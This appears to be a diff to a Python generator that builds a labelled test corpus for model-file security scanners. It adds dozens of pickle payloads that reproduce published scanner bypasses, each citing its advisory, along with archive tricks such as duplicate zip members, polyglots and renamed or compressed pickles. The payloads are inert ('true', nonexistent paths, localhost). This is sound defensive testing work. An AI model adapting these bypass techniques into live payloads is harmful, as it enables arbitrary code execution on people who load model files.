@@ -1570,8 +1570,389 @@ def _breadth_onnx() -> None:
     )
 
 
+def _stack_call(module: str, name: str, *args: bytes) -> bytes:
+    """Protocol-4 STACK_GLOBAL (dotted names allowed) + MARK + args + TUPLE + REDUCE."""
+    return s4(module) + s4(name) + b"\x93(" + b"".join(args) + b"tR"
+
+
 def malicious_bypasses() -> None:
-    pass
+    """One inert file per published scanner bypass not covered above (source in labels)."""
+    cmd = s4("import os; os.system('true')")
+    new_obj = lambda module, name: s4(module) + s4(name) + b"\x93)\x81"  # noqa: E731
+    cases: dict[str, tuple[bytes, str]] = {
+        "trace_run.pkl": (
+            p4(_stack_call("trace", "Trace.run", new_obj("trace", "Trace"), cmd)),
+            "GHSA-5qwp-399c-mjwf (picklescan): trace.Trace.run",
+        ),
+        "trace_runctx.pkl": (
+            p4(_stack_call("trace", "Trace.runctx", new_obj("trace", "Trace"), cmd, b"}}")),
+            "GHSA-g344-hcph-8vgg (picklescan): trace.Trace.runctx",
+        ),
+        "profile_run.pkl": (
+            p4(_stack_call("profile", "Profile.run", new_obj("profile", "Profile"), cmd)),
+            "GHSA-x696-vm39-cp64 (picklescan): profile.Profile.run",
+        ),
+        "profile_runctx.pkl": (
+            p4(_stack_call("profile", "Profile.runctx", new_obj("profile", "Profile"), cmd, b"}}")),
+            "GHSA-6vqj-c2q5-j97w (picklescan): profile.Profile.runctx",
+        ),
+        "cprofile_runctx.pkl": (
+            p4(_stack_call("cProfile", "runctx", cmd, b"}}")),
+            "GHSA-9w88-8rmg-7g2p (picklescan): cProfile.runctx",
+        ),
+        "cprofile_run.pkl": (
+            call0("cProfile", "run", "import os; os.system('true')") + b".",
+            "GHSA-4675-36f9-wf6r (picklescan): cProfile.run",
+        ),
+        "lib2to3_grammar_loads.pkl": (
+            p4(
+                _stack_call(
+                    "lib2to3.pgen2.grammar",
+                    "Grammar.loads",
+                    new_obj("lib2to3.pgen2.grammar", "Grammar"),
+                    b"C"
+                    + bytes([len(call0("os", "system", "true") + b".")])
+                    + call0("os", "system", "true")
+                    + b".",
+                )
+            ),
+            "GHSA-f54q-57x4-jg88 (picklescan): lib2to3.pgen2.grammar.Grammar.loads",
+        ),
+        "lib2to3_make_label.pkl": (
+            p4(
+                _stack_call(
+                    "lib2to3.pgen2.pgen",
+                    "ParserGenerator.make_label",
+                    new_obj("lib2to3.pgen2.pgen", "ParserGenerator"),
+                    b"N",
+                    s4('\'__import__("os").system("true")\''),
+                )
+            ),
+            "GHSA-p9w7-82w4-7q8m (picklescan): lib2to3 ParserGenerator.make_label (eval)",
+        ),
+        "idlelib_get_entity.pkl": (
+            p4(
+                _stack_call(
+                    "idlelib.autocomplete",
+                    "AutoComplete.get_entity",
+                    new_obj("idlelib.autocomplete", "AutoComplete"),
+                    s4("__import__('os').system('true')"),
+                )
+            ),
+            "GHSA-6w4w-5w54-rjvr (picklescan): idlelib AutoComplete.get_entity (eval)",
+        ),
+        "idlelib_fetch_completions.pkl": (
+            p4(
+                _stack_call(
+                    "idlelib.autocomplete",
+                    "AutoComplete.fetch_completions",
+                    new_obj("idlelib.autocomplete", "AutoComplete"),
+                    s4("__import__('os').system('true')"),
+                    b"K\x01",
+                )
+            ),
+            "GHSA-7cq8-mj8x-j263 (picklescan): idlelib AutoComplete.fetch_completions",
+        ),
+        "idlelib_debugobj.pkl": (
+            p4(_stack_call("idlelib.debugobj", "ObjectTreeItem", s4("x"), b"N", b"N")),
+            "GHSA-3vg9-h568-4w9m (picklescan): idlelib.debugobj.ObjectTreeItem",
+        ),
+        "idlelib_executive_runcode.pkl": (
+            p4(
+                _stack_call(
+                    "idlelib.run", "Executive.runcode", new_obj("idlelib.run", "Executive"), cmd
+                )
+            ),
+            "GHSA-m869-42cg-3xwr (picklescan): idlelib.run.Executive.runcode",
+        ),
+        "idlelib_runcommand.pkl": (
+            p4(
+                _stack_call(
+                    "idlelib.pyshell",
+                    "ModifiedInterpreter.runcommand",
+                    new_obj("idlelib.pyshell", "ModifiedInterpreter"),
+                    cmd,
+                )
+            ),
+            "GHSA-j343-8v2j-ff7w (picklescan): idlelib ModifiedInterpreter.runcommand",
+        ),
+        "doctest_debug_script.pkl": (
+            call0("doctest", "debug_script", "import os; os.system('true')") + b".",
+            "GHSA-fqq6-7vqf-w3fg (picklescan): doctest.debug_script",
+        ),
+        "torch_bottleneck.pkl": (
+            p4(_stack_call("torch.utils.bottleneck.__main__", "run_autograd_prof", cmd, b"}")),
+            "GHSA-4whj-rm5r-c2v8 (picklescan): torch.utils.bottleneck.__main__.run_autograd_prof",
+        ),
+        "code_interpreter_runcode.pkl": (
+            p4(
+                _stack_call(
+                    "code",
+                    "InteractiveInterpreter.runcode",
+                    new_obj("code", "InteractiveInterpreter"),
+                    cmd,
+                )
+            ),
+            "mmaitre314/picklescan PR #48: code.InteractiveInterpreter.runcode",
+        ),
+        "numpy_runstring.pkl": (
+            call0("numpy.testing._private.utils", "runstring", "import os")[:-2] + b"(dtR.",
+            "fickling PR #210 / picklescan: numpy.testing._private.utils.runstring (exec)",
+        ),
+        "runpy_run_code.pkl": (
+            p4(_stack_call("runpy", "_run_code", cmd, b"}")),
+            "picklescan denylist (runpy): runpy._run_code",
+        ),
+        "pty_spawn_reduce.pkl": (
+            call0("pty", "spawn", "true") + b".",
+            "picklescan denylist: pty.spawn",
+        ),
+        "ctypes_cdll.pkl": (
+            call0("ctypes", "CDLL", "/nonexistent/libpayload.so") + b".",
+            "ctypes library load (fickling UNSAFE_IMPORTS)",
+        ),
+        "webbrowser_open.pkl": (
+            call0("webbrowser", "open", "http://127.0.0.1:9/") + b".",
+            "picklescan denylist: webbrowser.open",
+        ),
+        "distutils_write_file.pkl": (
+            glob0("distutils.file_util", "write_file") + b"(S'/nonexistent/x'\n(S'x'\nltR.",
+            "CVE-2025-10155/10156 list in fickling PR #210: distutils.file_util.write_file",
+        ),
+        "io_fileio.pkl": (
+            glob0("_io", "FileIO") + b"(S'/nonexistent/x'\nS'w'\ntR.",
+            "fickling PR #210: _io.FileIO",
+        ),
+        "setuptools_spawn.pkl": (
+            glob0("setuptools._distutils.spawn", "spawn") + b"((S'true'\nltR.",
+            "distutils/setuptools helpers (spawn)",
+        ),
+        "torch_hub_load.pkl": (
+            call0("torch.hub", "load", "127.0.0.1/x") + b".",
+            "torch.hub.load (downloads and runs hubconf.py)",
+        ),
+        "torch_inductor_compile.pkl": (
+            call0("torch._inductor.codecache", "compile_file", "/nonexistent/x") + b".",
+            "torch._inductor code-cache helpers",
+        ),
+        "functools_partial.pkl": (
+            glob0("functools", "partial") + b"(" + glob0("os", "system") + b"S'true'\ntR)R.",
+            "fickling PR #210: functools.partial wrapper",
+        ),
+        "underscore_operator_attrgetter.pkl": (
+            call0("_operator", "attrgetter", "system")
+            + b"("
+            + call0("importlib", "import_module", "os")
+            + b"tR(S'true'\ntR.",
+            "GHSA-955r-x9j8-7rhh (picklescan): _operator.attrgetter",
+        ),
+        "getattr_on_module_global.pkl": (
+            glob0("builtins", "getattr") + b"(" + glob0("os", "path") + b"S'os'\ntR.",
+            "builtins.getattr on a module global",
+        ),
+        "inst_proto0.pkl": (b"(S'true'\nios\nsystem\n.", "protocol-0 INST"),
+        "ext4_code.pkl": (b"\x80\x02\x84\x07\x01\x00\x00(S'true'\ntR.", "EXT4 registry code"),
+        "build_function_dict.pkl": (
+            glob0("torch.nn.modules.module", "Module.__init__") + b"N}S'__globals__'\n}sb.",
+            "__dict__ update of a function (BUILD on a global)",
+        ),
+        "copyreg_reconstructor_os.pkl": (
+            glob0("copyreg", "_reconstructor")
+            + b"("
+            + glob0("os", "system")
+            + glob0("builtins", "str")
+            + b"S'true'\ntR.",
+            "copyreg dispatch: _reconstructor with os.system as the class",
+        ),
+        "defaultdict_factory.pkl": (
+            glob0("collections", "defaultdict") + b"(" + glob0("os", "getcwd") + b"tR.",
+            "protectai/modelaudit PR #1063: defaultdict factory",
+        ),
+        "torch_load_from_bytes.pkl": (
+            glob0("torch.storage", "_load_from_bytes")
+            + b"(C"
+            + bytes([len(call0("os", "system", "true") + b".")])
+            + call0("os", "system", "true")
+            + b".tR.",
+            "torch.storage._load_from_bytes re-enters torch.load(weights_only=False)",
+        ),
+        "pandas_excelwriter.pkl": (
+            call0("pandas", "ExcelWriter", "/nonexistent/x.xlsx") + b".",
+            "research: a pandas top-level re-export that opens a file when constructed",
+        ),
+        "uuid_get_command_stdout.pkl": (
+            call0("uuid", "_get_command_stdout", "true") + b".",
+            "promptfoo/modelaudit PR #581: uuid._get_command_stdout",
+        ),
+        "configparser_read.pkl": (
+            p4(
+                _stack_call(
+                    "configparser",
+                    "RawConfigParser.read",
+                    new_obj("configparser", "RawConfigParser"),
+                    s4("/nonexistent/x.ini"),
+                )
+            ),
+            "promptfoo/modelaudit PR #1059: configparser RawConfigParser.read",
+        ),
+        "argparse_filetype.pkl": (
+            glob0("argparse", "FileType") + b"(S'w'\ntR(S'/nonexistent/x'\ntR.",
+            "promptfoo/modelaudit PR #1059: argparse.FileType",
+        ),
+        "type_dynamic_del.pkl": (
+            p4(
+                s4("builtins")
+                + s4("type")
+                + b"\x93("
+                + s4("P")
+                + b"("
+                + s4("pathlib")
+                + s4("PurePosixPath")
+                + b"\x93t}"
+                + s4("__del__")
+                + s4("pathlib")
+                + s4("Path.touch")
+                + b"\x93stR)R"
+            ),
+            "promptfoo/modelaudit PR #1375: builtins.type class with a __del__ hook",
+        ),
+        "str_format_lookup.pkl": (
+            p4(_stack_call("builtins", "str.format", s4("{0.__class__}"), b"N")),
+            "promptfoo/modelaudit PR #1216: str.format attribute lookup",
+        ),
+        "re_sub_callback.pkl": (
+            p4(_stack_call("re", "sub", s4("x"), s4("os") + s4("system") + b"\x93", s4("true"))),
+            "promptfoo/modelaudit PR #1061: re.sub with a callable replacement",
+        ),
+        "modelscan85_numpy_prod_build.pkl": (
+            b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\n"
+            b"p0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vtrue\n\x85R.",
+            "protectai/modelscan#85: BUILD plants names on numpy.prod, then STACK_GLOBAL",
+        ),
+    }
+    for name, (data, source) in cases.items():
+        put("malicious", f"bypass/{name}", data, "unsafe", source)
+    _malicious_container_tricks()
+
+
+def _malicious_container_tricks() -> None:
+    import torch
+
+    class Evil:
+        def __reduce__(self) -> tuple[object, ...]:
+            return (os.system, ("true",))
+
+    payload = pickle.dumps(Evil(), protocol=2)
+    buf = io.BytesIO()
+    torch.save({"w": torch.ones(2), "hook": Evil()}, buf)
+    evil_zip = buf.getvalue()
+    buf = io.BytesIO()
+    torch.save({"w": torch.ones(2)}, buf)
+    clean_zip = buf.getvalue()
+    out = "bypass_zip"
+    # nullifAI (ReversingLabs, Feb 2025): torch layout compressed with 7z, the pickle
+    # broken right after the payload (torch.load fails, the payload already ran)
+    try:
+        import py7zr
+
+        path = MALICIOUS / out / "nullifai_7z_broken.bin"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        with py7zr.SevenZipFile(path, "w") as archive:
+            archive.writestr(payload[:-1] + b"\x00\xffbroken", "model/data.pkl")
+            archive.writestr(b"\x00" * 16, "model/data/0")
+        label(path, "malicious", "unsafe", "nullifAI (ReversingLabs): 7z torch, broken pickle")
+    except ImportError:
+        pass
+    with zipfile.ZipFile(io.BytesIO(evil_zip)) as src:
+        names = src.namelist()
+        members = {n: src.read(n) for n in names}
+    prefix = names[0].split("/")[0]
+    # duplicate names: a clean data.pkl first, the payload under the same name last
+    buf = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
+        warnings.simplefilter("ignore")
+        with zipfile.ZipFile(io.BytesIO(clean_zip)) as clean:
+            z.writestr(f"{prefix}/data.pkl", clean.read(f"{prefix}/data.pkl"))
+        for name, data in members.items():
+            z.writestr(name, data)
+    put(
+        "malicious",
+        f"{out}/duplicate_data_pkl.pt",
+        buf.getvalue(),
+        "unsafe",
+        "zip with two data.pkl members (scanners read the first, loaders the last)",
+    )
+    put(
+        "malicious",
+        f"{out}/bytes_before_zip.pt",
+        b"\x00" * 64 + evil_zip,
+        "unsafe",
+        "bytes before the zip (readers that require PK at offset 0 skip it)",
+    )
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for name, data in members.items():
+            z.writestr(name.replace(f"{prefix}/", f"{prefix}/nested/dir/", 1), data)
+    put(
+        "malicious",
+        f"{out}/unexpected_folder.pt",
+        buf.getvalue(),
+        "unsafe",
+        "data.pkl under an unexpected folder",
+    )
+    put(
+        "malicious",
+        f"{out}/pickle_zip_polyglot.pt",
+        payload + clean_zip,
+        "unsafe",
+        "polyglot: a pickle followed by a clean torch zip (torch.load reads the pickle)",
+    )
+    for ext in (".bin", ".ckpt", ".pth", ".h5", ".joblib", ".npy", ".onnx", ".gguf"):
+        put(
+            "malicious",
+            f"{out}/renamed_pickle{ext}",
+            payload,
+            "unsafe",
+            f"CVE-2025-1889/CVE-2025-10155: a raw pickle named *{ext}",
+        )
+    tbuf = io.BytesIO()
+    with tarfile.open(fileobj=tbuf, mode="w") as tar:
+        for name, data in (
+            ("sys_info", pickle.dumps({"protocol_version": 1001}, 2)),
+            ("pickle", payload),
+            ("storages", pickle.dumps(0, 2)),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    put(
+        "malicious",
+        f"{out}/torch_legacy_tar.pt",
+        tbuf.getvalue(),
+        "unsafe",
+        "torch's legacy tar format (sys_info/pickle/storages members)",
+    )
+    import bz2
+    import lzma
+
+    put(
+        "malicious", f"{out}/payload.pkl.bz2", bz2.compress(payload), "unsafe", "bz2-wrapped pickle"
+    )
+    put("malicious", f"{out}/payload.pkl.xz", lzma.compress(payload), "unsafe", "xz-wrapped pickle")
+    put(
+        "malicious",
+        f"{out}/payload_in_npz.npz",
+        _npz_with_pickle_member(payload),
+        "unsafe",
+        "npz whose member is a raw pickle (np.load(allow_pickle=True) unpickles it)",
+    )
+
+
+def _npz_with_pickle_member(payload: bytes) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("arr_0.npy", payload)
+    return buf.getvalue()
 
 
 SECTIONS = {
